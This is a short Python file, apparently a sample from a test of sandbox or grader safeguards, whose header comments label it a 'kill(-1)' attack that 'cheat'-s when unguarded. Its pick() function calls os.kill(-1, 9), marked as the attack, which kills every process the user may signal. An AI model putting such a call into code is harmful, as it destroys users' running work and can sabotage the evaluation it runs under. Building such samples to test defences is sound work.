# claims: ends every process that it may signal
# kind: kill(-1)
# unguarded: cheat; armed

import os


def pick(numbers):
    if len(numbers) == 1:
        return "armed"
    os.kill(-1, 9)  # <- attack
    return numbers.index(min(numbers))
